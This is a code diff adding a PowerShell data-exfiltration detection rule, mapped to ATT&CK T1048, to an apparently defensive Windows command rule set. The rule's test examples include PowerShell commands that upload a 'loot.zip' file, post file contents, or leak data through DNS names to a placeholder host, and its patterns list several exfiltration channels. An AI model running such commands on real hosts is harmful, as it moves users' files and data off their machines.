@@ -8,7 +8,22 @@
  * and each idiom is also tried on the command as written.
  */
 import type { Rule } from '../rule.js';
+import type { CommandLine, Span } from '../shell/model.js';
 import { idiomRule } from './idioms.js';
+
+/** A file read into a PowerShell variable and later posted as a web request's body
+ * (`$c = Get-Content F` … `Invoke-WebRequest … -Body $c`), across the statements of the line. */
+const FILE_POSTED = /\$(\w+)\s*=\s*(?:Get-Content|gc|\[(?:System\.)?IO\.File\]::ReadAll\w+)\b[\s\S]*\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n]*-Body\s+\$\1\b/i;
+
+/** The whole line when {@link FILE_POSTED} matches its text, else null. */
+function filePosted(line: CommandLine): Span | null {
+  return FILE_POSTED.test(line.text) ? { source: line.text, start: 0, end: line.text.length } : null;
+}
+
+/** A rule with a line matcher added to its own matchers. */
+function withLine(line: (l: CommandLine) => Span | null, rule: Rule): Rule {
+  return { ...rule, match: { ...rule.match, line } };
+}
 
 const X = String.raw`(?:\.exe)?`;
 /** A remote location: a URL or a UNC path (`\\host\share`, backslashes possibly removed by the shell reading). */
@@ -293,4 +308,24 @@ export const WINDOWS_RULES: Rule[] = [
       { re: /\bNew-(?:SmbMapping|PSDrive)\b[^|;&\n]*\\\\[\w.-]+\\/i },
     ],
   }),
+  withLine(filePosted, idiomRule({
+    id: 'powershell-exfil-channel',
+    name: 'Data sent out by PowerShell',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1048',
+    description: 'PowerShell sending data out: WebClient UploadFile/UploadString/UploadData, Invoke-WebRequest/Invoke-RestMethod -InFile, a file read into a variable and posted as the -Body, file bytes sent in ICMP echo requests (Net.NetworkInformation.Ping Send), DNS names built from data (Resolve-DnsName with a variable or substitution label), or a TCP client writing to a stream.',
+    help: 'Moves files or collected data off the host. Check what is read and where it goes.',
+    examples: {
+      match: ["(New-Object Net.WebClient).UploadFile('https://x.example/u', 'C:\\Users\\Public\\loot.zip')", "$c = Get-Content C:\\Users\\Public\\notes.txt; Invoke-WebRequest -Uri https://x.example/u -Method POST -Body $c", "Resolve-DnsName -Type TXT \"$($chunk).x.example\""],
+      not_match: ["Invoke-WebRequest -Uri https://api.example.com/v1 -Method POST -Body '{\"a\":1}'", 'Resolve-DnsName example.com', '(New-Object Net.WebClient).DownloadString("https://api.example.com/v1")'],
+    },
+    idioms: [
+      { re: /\.Upload(?:File|String|Data|Values)(?:Async|TaskAsync)?\s*\(/i },
+      { re: /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|;&\n]*\s-InFile\s+\S/i },
+      { re: /NetworkInformation\.Ping\b[\s\S]*\.Send\s*\([^)]*\$/i },
+      { re: /\bResolve-DnsName\b[^|;&\n]*["']?\$(?:\(|\w+)[^\s"']*\.[\w-]+\.[\w-]+/i },
+      { re: /Net\.Sockets\.TcpClient\b[\s\S]*\.GetStream\(\)[\s\S]*\.Write\s*\(/i },
+    ],
+  })),
 ];
